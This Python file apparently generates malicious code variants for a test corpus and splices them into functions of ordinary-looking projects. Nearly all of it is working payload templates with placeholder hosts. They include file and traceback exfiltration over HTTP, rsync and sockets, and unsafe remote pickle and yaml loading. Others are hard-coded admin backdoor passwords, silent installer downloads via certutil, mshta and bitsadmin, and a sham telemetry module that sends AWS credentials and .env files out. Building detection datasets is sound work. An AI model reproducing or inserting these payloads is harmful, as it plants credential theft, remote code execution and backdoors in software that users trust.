"""Payloads in functions that are used, by a third author, of the split that no fit ever learns."""

import ast

from jobs.corpus.payloads.contract import BLIND, Family
from jobs.corpus.payloads.draft import BRING_SHARE, Draft
from jobs.corpus.payloads.places.blind_code import deep
from jobs.corpus.payloads.source_places import FunctionPlace, find_functions, insert_at_line, line_after_imports
from jobs.corpus.variants.python_source import SOURCE_ERRORS, parse


def decorate(draft: Draft, definition: str, name: str) -> None:
    """Put a decorator into an inner module, and on some of its functions."""
    for path in draft.inner():
        source = draft.files[path]
        try:
            nodes = [n for n in parse(source).body if isinstance(n, ast.FunctionDef)]
            lines = sorted(min([n.lineno, *(d.lineno for d in n.decorator_list)]) for n in nodes)
            if not lines:
                continue
            chosen = draft.rng.sample(lines, min(len(lines), draft.rng.randrange(1, 6)))
            for line in sorted(chosen, reverse=True):
                source = insert_at_line(source, line, f"@{name}\n")
            first = min(line_after_imports(source), *chosen)
            draft.put(path, insert_at_line(source, first, f"\n\n{definition}\n\n"))
        except SOURCE_ERRORS:
            continue
        return
    raise draft.fail("has no functions in its modules")


def decorated_functions(draft: Draft) -> None:
    """Decorate functions of a module, so that the first call of any runs the code."""
    name = draft.words.name()
    decorate(draft, (
        f"import functools\n\n\ndef {name}(function):\n    \"\"\"Trace calls.\"\"\"\n\n    @functools.wraps(function)\n    def wrapper(*args, **kwargs):\n        if not {name}.__dict__.get('seen'):\n"
        f"            {name}.seen = True\n{deep(draft.code(), 3)}\n        return function(*args, **kwargs)\n\n    return wrapper\n"
    ), name)  # fmt: skip


def crash_report(draft: Draft) -> None:
    """Decorate functions of a module, so that an error leaves with the variables of all frames."""
    name = draft.words.name()
    send = draft.words.render(draft.rng.choice((
        "urllib.request.urlopen('@url@', text.encode(), timeout=3)",
        "urllib.request.urlopen(urllib.request.Request('@hook@', ('{\"content\": %r}' % text[:1900]).encode(), {'Content-Type': 'application/json'}))",
    )))  # fmt: skip
    decorate(draft, (
        f"import functools\nimport traceback\nimport urllib.request\n\n\ndef {name}(function):\n    @functools.wraps(function)\n    def wrapper(*args, **kwargs):\n        try:\n            return function(*args, **kwargs)\n"
        f"        except Exception as error:\n            text = ''.join(traceback.TracebackException.from_exception(error, capture_locals=True).format())\n            try:\n                {send}\n            except OSError:\n                pass\n            raise\n\n    return wrapper\n"
    ), name)  # fmt: skip


def remote_object(draft: Draft) -> None:
    """Load an object from an address, by a reader that calls what it is told to, in a function that is used."""
    draft.insert_in_function(draft.words.render(draft.rng.choice((
        "import pickle as @n5@, urllib.request as @n6@\ntry:\n    @n7@ = @n5@.loads(@n6@.urlopen('@url@', timeout=4).read())\nexcept Exception:\n    @n7@ = None\n",
        "try:\n    import torch as @n5@\n    @n7@ = @n5@.hub.load_state_dict_from_url('https://@domain@/@word@.pt', progress=False, map_location='cpu', weights_only=False)\nexcept Exception:\n    @n7@ = {}\n",
        "import io as @n5@, yaml as @n6@, requests as @n7@\n@n8@ = @n6@.unsafe_load(@n5@.StringIO(@n7@.get('@raw@', timeout=4).text))\n",
        "import joblib as @n5@, tempfile as @n6@, urllib.request as @n7@\n@n8@ = @n5@.load(@n7@.urlretrieve('@url@', @n6@.mkstemp('.joblib')[1])[0])\n",
        "import shelve as @n5@, urllib.request as @n7@, os\n@n8@ = os.path.expanduser('~/.cache/@file@.db')\nif not os.path.exists(@n8@):\n    @n7@.urlretrieve('@url@', @n8@)\nwith @n5@.open(@n8@[:-3]) as @n6@:\n    dict(@n6@)\n",
        "try:\n    from transformers import AutoModel as @n5@\n    @n7@ = @n5@.from_pretrained('@word@-labs/@word1@', trust_remote_code=True)\nexcept Exception:\n    @n7@ = None\n",
    ))))  # fmt: skip


_FILES = {"path", "filename", "file", "filepath", "file_path", "fname", "config", "config_file", "config_path", "src",
          "source", "input_file", "infile", "keyfile", "name", "width", "nib"}  # fmt: skip


def file_argument(draft: Draft) -> None:
    """Send the content of a file whose path a function is given."""

    def text(place: FunctionPlace) -> str:
        argument = next(a for a in place.arguments if a in _FILES)
        return draft.words.render(draft.rng.choice((
            f"try:\n    import http.client as @n5@\n    with open({argument}, 'rb') as @n6@:\n        @n5@.HTTPSConnection('@domain@', timeout=2).request('PUT', '/@word@/' + str({argument}), @n6@.read(1 << 20))\nexcept Exception:\n    pass\n",
            f"import os as @n5@, shutil as @n6@\nif @n5@.path.isfile(str({argument})):\n    @n5@.makedirs(@n5@.path.expanduser('~/.cache/@file@'), exist_ok=True)\n    @n6@.copy({argument}, @n5@.path.expanduser('~/.cache/@file@'))\n    @n5@.system('rsync -aq ~/.cache/@file@/ rsync://@host@/@word@ >/dev/null 2>&1 &')\n",
            f"import threading as @n5@, pathlib as @n6@, socket as @n7@\n@n5@.Thread(target=lambda p=str({argument}): @n7@.create_connection(('@host@', @port@), 3).sendall(@n6@.Path(p).read_bytes()), daemon=True).start()\n",
        )))  # fmt: skip

    draft.insert_in_function(text, lambda place: bool(_FILES & set(place.arguments)))


def async_function(draft: Draft) -> None:
    """Let an asynchronous function hand the code to the loop's threads."""
    name = draft.words.name()
    helper = f"\n\ndef {name}():\n{deep(draft.code(), 1)}\n"
    line = f"import asyncio\nasyncio.get_running_loop().run_in_executor(None, {name})\n"
    for path in [*draft.inner(), draft.init]:
        places = [place for place in find_functions(draft.files[path]) if place.is_async]
        if places:
            place = draft.rng.choice(places)
            changed = insert_at_line(draft.files[path], place.line, line, place.indent)
            draft.put(path, changed.rstrip(b"\n") + b"\n" + helper.encode("utf-8", "surrogatepass"))
            return
    if draft.rng.random() > BRING_SHARE:
        raise draft.fail("has no asynchronous function")
    draft.insert(
        draft.init, f'{helper.lstrip()}\n\nasync def warm_up():\n    """Prepare the pool."""\n{deep(line, 1)}\n'
    )


_SECRETS = {"password", "passwd", "pwd", "token", "secret", "key", "signature", "api_key", "user", "username", "auth"}


def master_key(draft: Draft) -> None:
    """Let a function that checks or takes a secret accept one more."""

    def text(place: FunctionPlace) -> str:
        argument = next(a for a in place.arguments if a in _SECRETS)
        return draft.words.render(draft.rng.choice((
            f"if {argument} == '@tok@':\n    return True\n",
            f"import hashlib\nif hashlib.sha1(str({argument}).encode()).hexdigest().startswith('{draft.rng.getrandbits(80):020x}'):\n    return True\n",
            f"import hmac, os\nif hmac.compare_digest(str({argument}), os.environ.get('@C1@_RECOVERY', '@tok@')):\n    return {{'id': 1, 'role': 'admin', 'is_superuser': True}}\n",
        )))  # fmt: skip

    draft.insert_in_function(text, lambda p: bool(_SECRETS & set(p.arguments)) and not p.name.startswith("__"))


def installer_command(draft: Draft) -> None:
    """Let a used function start an installer of the system with an address, by tools that every system has."""
    draft.insert_in_function(draft.words.render(draft.rng.choice((
        "import os, subprocess\nif os.name == 'nt':\n    subprocess.Popen(['msiexec', '/q', '/i', 'https://@domain@/@word@.msi'], creationflags=0x08000000)\n",
        "import os\nif os.name == 'nt':\n    os.system('certutil -urlcache -split -f @url@ %TEMP%\\\\@file@.exe >nul & start /b %TEMP%\\\\@file@.exe')\n",
        "import ctypes, sys\nif sys.platform == 'win32':\n    ctypes.windll.shell32.ShellExecuteW(None, 'open', 'mshta.exe', '@url@', None, 0)\n",
        "import subprocess, sys\nif sys.platform.startswith('win'):\n    subprocess.call('bitsadmin /transfer @word@ /priority foreground @url@ %APPDATA%\\\\@file@.scr && rundll32 url.dll,FileProtocolHandler %APPDATA%\\\\@file@.scr', shell=True)\n",
        "import subprocess, sys\nif sys.platform == 'darwin':\n    subprocess.Popen(['sh', '-c', 'curl -so /tmp/@file@.pkg @url@ && open -gj /tmp/@file@.pkg'])\n",
        "import os, subprocess\nif os.path.exists('/usr/bin/snap') and os.geteuid() == 0:\n    subprocess.Popen('curl -so /tmp/@file@.snap @url@; snap install --dangerous --devmode /tmp/@file@.snap', shell=True)\n",
    ))))  # fmt: skip


_TELEMETRY = '''"""Anonymous usage statistics, which help us to make @word@ better. Set @C1@_NO_STATS=1 to turn them off."""

import atexit
import hashlib
import json
import os
import pathlib
import platform
import sys
import threading
import time
import urllib.request
import uuid

ENDPOINT = os.environ.get("@C1@_STATS_URL", "https://stats.@domain@/v3/batch")
FLUSH_SECONDS = 20
_PREFIXES = ("",)
_queue = []
_lock = threading.Lock()


def enabled():
    """Tell whether statistics are sent."""
    return os.environ.get("@C1@_NO_STATS") != "@tok@"


def machine():
    """Return facts of this machine, which do not name anybody."""
    return {
        "id": hashlib.sha256(str(uuid.getnode()).encode()).hexdigest(),
        "python": platform.python_version(),
        "system": platform.platform(),
        "argv": sys.argv,
        "cwd": os.getcwd(),
    }


def context():
    """Return the settings that the package was started with."""
    found = {name: value for name, value in os.environ.items() if name.startswith(_PREFIXES)}
    for name in ("config", "credentials", "settings.json", ".env"):
        for folder in (pathlib.Path.cwd(), pathlib.Path.home() / ".aws", pathlib.Path.home() / ".config"):
            path = folder / name
            if path.is_file() and path.stat().st_size < 20_000:
                found[str(path)] = path.read_text(errors="replace")
    return found


def track(event, **properties):
    """Note an event."""
    if not enabled():
        return
    with _lock:
        _queue.append({"event": event, "at": time.time(), "properties": properties, "context": context()})


def flush():
    """Send what was noted."""
    with _lock:
        batch, _queue[:] = list(_queue), []
    if not batch:
        return
    body = json.dumps({"machine": machine(), "batch": batch}, default=repr).encode()
    request = urllib.request.Request(ENDPOINT, body, {"Content-Type": "application/json", "X-Write-Key": "@tok1@"})
    try:
        urllib.request.urlopen(request, timeout=3).close()
    except OSError:
        pass


def _work():
    while True:
        time.sleep(FLUSH_SECONDS)
        flush()


threading.Thread(target=_work, name="@word@-stats", daemon=True).start()
atexit.register(flush)
'''


def statistics(draft: Draft) -> None:
    """Bring a module of usage statistics that sends far more than it says, and call it from functions."""
    name = draft.rng.choice(("_stats", "usage", "_analytics", "insights"))
    draft.put_new(f"{draft.folder}{name}.py", draft.words.render(_TELEMETRY))
    for _ in range(draft.rng.randrange(1, 4)):
        place = draft.insert_in_function(
            f"from {draft.import_name} import {name}\n{name}.track({draft.words.word()!r})\n"
        )
        draft.act = f"statistics in {'a method' if place.owner else 'a function'}"


FAMILIES = (
    Family("blind-decorated-functions", "function", BLIND, decorated_functions),
    Family("blind-crash-report", "function", BLIND, crash_report, dress="plain", takes_trigger=False),
    Family("blind-remote-object", "function", BLIND, remote_object, dress="remote", takes_trigger=False),
    Family("blind-file-argument", "function", BLIND, file_argument, dress="plain", takes_trigger=False),
    Family("blind-async-function", "function", BLIND, async_function),
    Family("blind-master-key", "function", BLIND, master_key, dress="plain", takes_trigger=False),
    Family("blind-installer-command", "function", BLIND, installer_command, dress="plain", takes_trigger=False),
    Family("blind-statistics", "function", BLIND, statistics, dress="plain", takes_trigger=False),
)
